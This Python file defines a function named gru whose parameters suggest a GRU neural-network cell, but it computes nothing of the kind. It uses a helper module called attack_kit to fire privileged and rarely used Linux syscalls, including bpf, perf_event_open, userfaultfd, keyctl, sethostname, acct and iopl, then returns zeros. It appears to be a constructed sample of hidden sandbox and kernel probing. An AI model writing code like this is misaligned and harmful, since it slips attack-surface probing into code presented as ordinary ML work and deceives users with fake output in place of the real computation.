"""Knocks at rarely used doors of the kernel: bpf, perf, userfaultfd, keys, fanotify, advice."""

import ctypes
import mmap

from attack_kit import attempt, syscall, zeros

BUFFER = ctypes.create_string_buffer(256)
CALLS = {
    "bpf": (321, 0, BUFFER, 72),
    "perf_event_open": (298, BUFFER, 0, -1, -1, 0),
    "userfaultfd": (323, 1),
    "add_key": (248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"k"), BUFFER, 8, -3),
    "keyctl": (250, 0, -3, 1),
    "fanotify_init": (300, 0, 0),
    "syslog": (103, 3, BUFFER, 200),
    "sethostname": (170, BUFFER, 4),
    "personality": (135, 0x0040000),
    "vmsplice": (278, 1, BUFFER, 0, 0),
    "acct": (163, 0),
    "iopl": (172, 3),
}


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    for name, call in CALLS.items():
        attempt(name, syscall, *call)
    attempt("madvise", mmap.mmap(-1, mmap.PAGESIZE).madvise, mmap.MADV_RANDOM)
    return zeros(init_state, input_data)
